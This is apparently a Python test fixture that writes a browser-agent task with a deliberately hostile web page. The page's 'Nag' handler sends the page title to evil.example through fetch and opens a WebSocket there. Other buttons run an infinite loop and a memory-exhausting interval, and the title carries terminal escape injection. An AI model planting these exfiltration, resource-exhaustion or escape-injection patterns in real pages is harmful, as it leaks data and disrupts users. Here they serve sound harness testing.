"""A small site with everything that goes wrong on one, as a task in a folder."""

from pathlib import Path

from refinery_tui.core.experiment.task import Task
from refinery_tui.core.experiment.task_file import read_task

TOML = """
title = "A list"
prompt = "Add {item} to the list."
baseline = "programs/add.jsonl"

[browser]
start = "index.html"
visits = 1

[browser.given]
item = ["tea", "milk", "salt"]

[browser.limits]
actions = 10
seconds = 30.0
action_seconds = 2.0
outline_characters = 1200
memory_mb = 450

[[goals]]
storage = "list"
is = '["{item}"]'

[[goals]]
count = "#list li"
is = 1
"""
ADD = """\
{"do": "fill", "on": {"label": "Item"}, "text": "{item}"}
{"do": "click", "on": {"role": "button", "name": "Add"}}
"""
PAGE = """<!doctype html>
<html lang="en">
<title>A list \x1b[31m\u202e</title>
<label>Item <input id="item"></label>
<button id="add">Add</button>
<select id="kind"><option>Food</option><option>Drink</option></select>
<ul id="list"></ul>
<button class="two">One</button><button class="two">Two</button>
<button id="off" disabled>Off</button>
<button id="nag">Nag</button>
<button id="hang">Hang</button>
<button id="eat">Eat</button>
<a id="away" href="https://evil.example/steal">Away</a>
<p id="long"></p>
<script>
  const by = (id) => document.getElementById(id);
  const kept = () => JSON.parse(localStorage.getItem("list") || "[]");
  by("add").onclick = () => {
    localStorage.setItem("list", JSON.stringify([...kept(), by("item").value]));
    setTimeout(() => { by("list").insertAdjacentHTML("beforeend", "<li>" + by("item").value + "</li>"); }, 50);
  };
  by("nag").onclick = () => {
    alert("Buy \\x1b[2Jmore");
    window.open("index.html");
    fetch("https://evil.example/steal?what=" + document.title).catch(() => 0);
    new WebSocket("wss://evil.example/socket");
    by("long").textContent = "x".repeat(5000);
    location.href = "data:text/html,<script>1</scr" + "ipt>";
    setTimeout(() => { throw new Error("broken \\x1b[31mcode"); });
  };
  by("hang").onclick = () => { for (;;); };
  const eaten = [];
  by("eat").onclick = () => setInterval(() => eaten.push(new Uint8Array(1 << 25).fill(1)), 50);
</script>
</html>
"""


def list_task(folder: Path, toml: str = TOML, page: str = PAGE) -> Task:
    """The task, written into `folder` and read from it."""
    for name, content in (("task.toml", toml), ("site/index.html", page), ("programs/add.jsonl", ADD)):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content, encoding="utf-8")
    return read_task(folder)
